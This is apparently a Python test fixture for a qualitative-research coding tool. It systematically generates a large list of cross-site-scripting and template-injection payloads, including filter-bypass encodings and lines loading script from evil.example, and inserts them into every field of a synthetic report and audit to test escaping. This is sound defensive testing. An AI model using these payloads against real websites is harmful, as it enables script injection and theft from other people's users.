"""Hostile words, made systematically, and a study and an audit in which every field holds them."""

from __future__ import annotations

import ast
from dataclasses import replace
from itertools import product
from types import MappingProxyType
from typing import TYPE_CHECKING
from urllib.parse import quote

from qualcode.auditing import Audit, audit, document_of
from qualcode.codebook.codebook import Actor, Code, Codebook, Example, Rule, Term
from qualcode.codings import Coding, Decision, Matched
from qualcode.findings import Decided
from qualcode.reporting import Report, SourceFile, report_of
from qualcode.spans import Span
from qualcode.transcripts.transcript import Transcript, Turn

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Sequence
    from pathlib import Path

    from qualcode.codings import Stance

TAGS = (
    "a",
    "animate",
    "article",
    "audio",
    "body",
    "button",
    "details",
    "div",
    "embed",
    "form",
    "frameset",
    "iframe",
    "image",
    "img",
    "input",
    "isindex",
    "keygen",
    "link",
    "marquee",
    "math",
    "meta",
    "object",
    "p",
    "select",
    "style",
    "svg",
    "table",
    "template",
    "textarea",
    "video",
    "x-y",
)
EVENTS = (
    "onanimationstart",
    "onauxclick",
    "onbeforetoggle",
    "onblur",
    "onclick",
    "onerror",
    "onfocus",
    "onhashchange",
    "oninput",
    "onload",
    "onmessage",
    "onmouseenter",
    "onmouseover",
    "onpageshow",
    "onpointerover",
    "onresize",
    "onscroll",
    "onselect",
    "ontoggle",
    "ontransitionend",
    "onwheel",
)
CORES = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import('data:text/javascript,alert(1)')</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css';*{background:url(//evil.example)}</style>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<x-y style=animation-name:x onanimationstart=alert(1)>",
    "<div style='width:expression(alert(1));background:url(javascript:alert(1))'>",
    "<!DOCTYPE html><html><body onload=alert(1)>",
    "<?xml version='1.0'?><?xml-stylesheet href='javascript:alert(1)'?>",
    "<![CDATA[<script>alert(1)</script>]]>",
)
BREAKS = (
    "",
    '">',
    "'>",
    ">",
    "`>",
    "-->",
    "--!>",
    "<!-->",
    "<!--->",
    "]]>",
    "*/",
    "</title>",
    "</style>",
    "</script>",
    "</textarea>",
    "</noscript>",
    "</noembed>",
    "</template>",
    "</svg>",
    "</math>",
    "</select>",
    "</table>",
    "</p></div></body></html>",
    "<plaintext>",
    "<!--<script>",
    '\\">',
    "\\'>",
    "\n\n",
    "\u2028",
    "\x00",
    "\ufeff",
    "\u202e",
    "&quot;>",
    "&#62;",
    "}}",
    "%}",
)
SEPARATORS = (" ", "/", "\t", "\n", "\f", "\r", "\x0b", "\xa0", "")
SCHEMES = (
    "javascript",
    "vbscript",
    "data",
    "livescript",
    "mhtml",
    "feed:javascript",
    "view-source",
    "jar",
    "blob",
    "file",
)
SCHEME_SIGNS = (
    "",
    " ",
    "\t",
    "\n",
    "\r\n",
    "\x00",
    "\x01",
    "\x1f",
    "\xad",
    "\u200b",
    "\ufeff",
    "&Tab;",
    "&NewLine;",
    "&colon;",
    "&#x0A;",
    "&#0000009",
    "%0a",
    "\\",
)
CODES = (
    "`${alert(1)}`",
    "${alert(1)}",
    "#{alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "{{ 7 * 7 }}",
    "{% raw %}",
    "{%- set x = cycler.__init__.__globals__ -%}",
    "<%= alert(1) %>",
    "<?php echo 1 ?>",
    "';alert(1)//",
    '";alert(1)//',
    "\\';alert(1)//",
    '\\";alert(1)//',
    "*/alert(1)/*",
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "</ScRiPt ><svg onload=alert(1)>",
    "\u2028alert(1)\u2029",
    "__proto__",
    "constructor",
    "</SCRIPT\n>",
    "]]></script>",
    "//# sourceMappingURL=//evil.example",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
)

PILLARS = 4

ENCODERS: dict[str, Callable[[str], str]] = {
    "decimal": lambda text: "".join(f"&#{ord(c)};" for c in text),
    "decimal, no semicolon": lambda text: "".join(f"&#{ord(c):07d}" for c in text),
    "hexadecimal": lambda text: "".join(f"&#x{ord(c):X};" for c in text),
    "named": lambda text: text.replace("<", "&lt;").replace(">", "&gt;").replace("'", "&apos;").replace('"', "&quot;"),
    "named twice": lambda text: text.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
    "percent": quote,
    "percent twice": lambda text: quote(quote(text)),
    "full width": lambda text: "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text),
    "odd angles": lambda text: text.replace("<", "\u2039\uff1c\u226e").replace(">", "\u203a\uff1e\u226f"),
    "combined": lambda text: text.replace("<", "<\u0338").replace(">", ">\u0338"),
    "mixed case": lambda text: "".join(c.upper() if n % 2 else c for n, c in enumerate(text)),
    "nul": lambda text: text.replace("r", "r\x00").replace("<", "<\x00"),
    "utf-7": lambda text: text.encode("utf-7").decode("ascii").replace("<", "+ADw-").replace(">", "+AD4-"),
    "right to left": lambda text: f"\u202e{text}\u202c\u2066{text}",
    "backspace": lambda text: text.replace("<", "<\x08"),
    "shift out": lambda text: f"\x1b(J{text}\x1b$B",
}


def made() -> list[str]:
    """Payloads from elements × events, cores × contexts, attributes, addresses, encodings and code; none twice."""
    return list(dict.fromkeys(_made()))


def _made() -> Iterator[str]:
    yield from CODES
    yield from (f"{before}{core}" for before, core in product(BREAKS, CORES))
    for number, (tag, event) in enumerate(product(TAGS, EVENTS)):
        mark, gap = ('"', "'", "")[number % 3], SEPARATORS[number % 6]
        yield f"<{tag}{gap}src=x{gap}{event}={mark}alert(1){mark}>"
    for mark, gap, event in product(('"', "'", "`", '\\"'), SEPARATORS, ("onclick", "onfocus", "onmouseover", "style")):
        yield f"x{mark}{gap}{event}={mark}alert(1){gap}{mark}autofocus x={mark}"
    for scheme, sign in product(SCHEMES, SCHEME_SIGNS):
        yield f"{scheme[:4]}{sign}{scheme[4:]}{sign}:{sign}alert(1)"
        yield f"[x]({scheme}{sign}:alert(1)) <{scheme}{sign}:alert(1)>"
    yield from (encode(core) for encode, core in product(ENCODERS.values(), (*CORES, "javascript:alert(1)")))


def listed(folder: Path) -> list[str]:
    """The payloads of the package brs-kb, unpacked in a folder; nothing of it is run."""
    nodes = (
        node
        for path in sorted((folder / "brs_kb" / "payloads").rglob("*.py"))
        for node in ast.walk(ast.parse(path.read_text("utf-8")))
    )
    given = (node.value for node in nodes if isinstance(node, ast.keyword) and node.arg == "payload")
    return list(dict.fromkeys(str(value.value) for value in given if isinstance(value, ast.Constant)))


def calm(count: int) -> list[str]:
    """Return a number of harmless words, none twice."""
    return [f"plainword{number:05d}" for number in range(count)]


def hostile_report(payloads: Sequence[str], *, language: str) -> Report:
    """A report in which each payload stands in every field: of a transcript, a code, a coder, a decision, a file.

    What a study has few of (the codebook's title, its pillars, those who agree) holds several payloads each, one behind
    the other.
    """
    transcripts = tuple(_transcript(payload, number) for number, payload in enumerate(payloads))
    codings = tuple(
        _coding(transcript, number, place) for number, transcript in enumerate(transcripts) for place in (0, 1)
    )
    accepted = tuple(replace(coding, status="accepted") for coding in codings)
    decided = Decided("all", accepted=1, rejected=1, undecided=1, coders=dict.fromkeys(payloads, 1), lost=1)
    report = report_of(accepted, transcripts, _codebook(payloads), language=language, decided=decided)
    coders = ["\n".join(payloads[first::2]) for first in range(2)]
    everything = {transcript.id for transcript in transcripts}
    return replace(
        report,
        codings=accepted,
        ratings=tuple(replace(c, coder=coder, origin="person") for coder in coders for c in codings),
        coded=dict.fromkeys(coders, everything),
        history=tuple(_history(codings, payloads)),
        files=tuple(SourceFile(*[payload] * 4) for payload in payloads),
        checklists=("coreq", "srqr"),
        with_transcripts=True,
    )


def hostile_audit(payloads: Sequence[str], report: Report, *, name: str) -> Audit:
    """An audit of a text in which every payload is part of a claim, a claim itself, and part of a heading.

    Most claims are about two pillars; the last pillar is left out.
    """
    told = [number for number in range(len(payloads)) if number % PILLARS < PILLARS - 1]
    claims = [f"Train{number} and train{number + 1} were good, said {payloads[number]}." for number in told]
    lines = [f"# {payload}\n\n{payload}" for payload in payloads]
    document = document_of("\n\n".join([*claims, *lines]), name=name)
    return audit(document, report.findings, report.codebook, transcripts=report.transcripts)


def _codebook(payloads: Sequence[str]) -> Codebook:
    def both(text: str) -> MappingProxyType[str, str]:
        return MappingProxyType({"id": text, "en": text})

    def code(id_: str, number: int, payload: str, *under: Code) -> Code:
        texts = {name: both(payload) for name in ("label", "brief", "definition", "when_to_use", "when_not_to_use")}
        examples = (Example(payload), Example(f"x{payload}", "en"))
        rules = (Rule(f"{id_}/{payload}", id_, ((Term("word", f"train{number}", "en"),),)),)
        return Code(id_, **texts, examples=examples, counterexamples=examples, indicators=under, rules=rules)

    whole = "\n".join(payloads)
    codes = tuple(
        code(f"p{n}", n, "\n".join(payloads[n::PILLARS]), *(code(f"p{n}.i{i}", i, payloads[i]) for i in places))
        for n in range(PILLARS)
        if (places := range(n, len(payloads), PILLARS))
    )
    actors = tuple(Actor(payload, payload, (payload,)) for payload in payloads)
    return Codebook(
        whole, both(whole), codes, version=whole, hash=whole, languages=("en", "id"), actors=actors, source=both(whole)
    )


def _transcript(payload: str, number: int) -> Transcript:
    text = f"{payload}: {payload}?\n{payload}: train{number} {payload}\n{payload} again"
    ask = Span(len(payload) + 2, 2 * len(payload) + 3)
    said = Span(ask.end + 1 + len(payload) + 2, len(text))
    keys = ("informant", "role", "source", "place", "date", "language", "interviewer", "note", payload)
    turns = (
        Turn(ask, payload, interviewer=True, start_time=0.0),
        Turn(said, payload, informant=payload, start_time=1.0, end_time=99.0),
    )
    known = {payload: dict.fromkeys(keys, payload)}
    return Transcript(payload, text, turns, dict.fromkeys(keys, payload), notes=(payload,), informants=known)


def _coding(transcript: Transcript, number: int, place: int) -> Coding:
    payload = transcript.id
    whole = transcript.turns[1].span
    cut = whole.start + len(f"train{number} {payload}")
    span = Span(whole.start, cut) if place == 0 else Span(cut + 1, whole.end)
    word = Matched(Span(span.start, span.start + 5), transcript.text[span.start : span.start + 5], payload)
    stance: Stance = "shortcoming" if place else "achieved"
    return Coding(
        transcript.id,
        span,
        span.quote(transcript.text),
        f"p{number % PILLARS}",
        f"p{number % PILLARS}.i{number}",
        stance,
        rule=payload,
        matched=(word,),
        cues=(word,),
        stance_reason=payload,
        speaker=payload,
        informant=payload,
        actors=(payload,),
        coder=payload,
    )


def _history(codings: Sequence[Coding], payloads: Sequence[str]) -> Iterator[Decision]:
    for number, payload in enumerate(payloads):
        coding = codings[2 * number]
        passage = {"transcript": payload, "span": coding.span, "code": coding.code, "indicator": coding.indicator}
        opened = MappingProxyType({"name": payload, "coders": [payload, payload], "blind": True})
        yield Decision(f"r{payload}", "round_opened", payload, payload, f"r{number}", details=opened)
        for kind in ("suggested", "accepted", "rejected", "coded", "stance_changed", "memo"):
            yield Decision(
                payload,
                kind,
                payload,
                payload,
                f"{kind}{number}",
                quote=payload,
                stance=coding.stance,
                rule=payload,
                reason=payload,
                **passage,
            )
        yield Decision(payload, "round_closed", payload, payload, f"z{number}", details=opened)
        yield Decision(
            payload, "forgotten", payload, payload, f"f{number}", details=MappingProxyType({"name": payload})
        )
